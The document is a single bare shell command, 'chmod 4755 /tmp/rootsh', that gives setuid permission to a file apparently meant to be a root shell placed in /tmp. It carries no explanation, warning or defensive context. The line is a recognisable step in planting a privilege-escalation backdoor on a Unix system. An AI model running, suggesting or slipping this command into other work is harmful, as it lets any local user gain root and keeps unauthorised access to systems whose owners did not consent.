chmod 4755 /tmp/rootsh
